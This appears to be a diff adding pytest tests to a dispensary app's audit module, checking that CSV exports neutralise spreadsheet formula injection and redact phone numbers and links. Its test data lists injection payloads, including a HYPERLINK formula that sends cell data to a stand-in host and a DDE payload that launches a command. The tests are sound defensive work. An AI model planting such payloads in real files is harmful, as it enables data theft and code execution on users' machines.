@@ -11,9 +11,11 @@ from dataclasses import asdict
 from datetime import date, datetime, timedelta, timezone
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from budtender_app.domain.wallet import Discount
-from budtender_app.services.audit import CSV_COLUMNS, GENESIS_HASH, Audit, row_hash
+from budtender_app.services.audit import CSV_COLUMNS, GENESIS_HASH, Audit, _write_csv, row_hash, spreadsheet_safe
 from budtender_app.services.journal import Journal, JournalLock, JournalStateError, migrate
 
 TOKEN = "tok3nSECRETvalue99"
@@ -287,3 +289,54 @@ def test_a_failed_export_leaves_no_half_file(journal, clock, tmp_path, monkeypat
         journal.export_csv(target, date(2024, 5, 1))
     assert target.read_text() == "previous export\n"
     assert sorted(p.name for p in tmp_path.iterdir() if "audit.csv" in p.name) == ["audit.csv"]
+
+
+# -- no formula in the export (OWASP CSV injection) ------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx=1",
+            "\r=1+1", "  =1+1", "\n@x", '=1+"2"', "＝1+1", '=cmd|" /C calc"!A0']
+
+
+def formula_day(journal: Journal) -> None:
+    for n, text in enumerate(FORMULAS):
+        (entry,) = journal.queue(text, [discount(n, 10, name=text)], shopper_masked="***-***-4567", contact_id="C-1")
+        journal.mark_sending(entry.id)
+        journal.mark_rejected(entry.id, text)
+
+
+def test_no_exported_cell_starts_like_a_formula(journal, clock, tmp_path):
+    formula_day(journal)
+    target = tmp_path / "audit.csv"
+    journal.export_csv(target, date(2024, 5, 1))
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert len(rows) == 3 * len(FORMULAS)
+    starts = set("=+-@\t\r＝")
+    for row in rows:
+        for cell in row:
+            assert cell[:1] not in starts and cell.lstrip()[:1] not in starts, row
+    by_discount = {row[5] for row in rows}
+    by_transaction = {row[4] for row in rows}
+    assert by_discount == by_transaction == {"'" + text for text in FORMULAS}  # the text itself is kept
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text(alphabet=st.sampled_from('=+-@\t\r\n "\',;ab1'), max_size=12))
+def test_any_cell_reads_back_as_written_or_quoted(text):
+    out = io.StringIO(newline="")
+    _write_csv(out, [dict.fromkeys(CSV_COLUMNS, text)])
+    [cells] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
+    assert cells == [spreadsheet_safe(text)] * len(CSV_COLUMNS)
+    assert cells[0] in (text, "'" + text)
+    assert cells[0].lstrip()[:1] not in set("=+-@\t\r")
+
+
+def test_a_detail_written_before_the_redactor_is_redacted_in_the_export(journal, path):
+    (entry,) = journal.queue("T-9", [discount(9)], shopper_masked="***-***-4567", contact_id="C-1")
+    with closing(sqlite3.connect(path)) as db, db:  # what the old code let through into the trail
+        db.execute("DROP TRIGGER IF EXISTS audit_no_update")
+        db.execute("UPDATE audit SET detail = 'AIQ said: no member 555-123-4567, see https://x.example/t'")
+    out = io.StringIO(newline="")
+    journal.export_csv(out, date(2024, 5, 1))
+    [row] = parse(out.getvalue())
+    assert row["detail"] == "AIQ said: no member ***4567, see [link]"
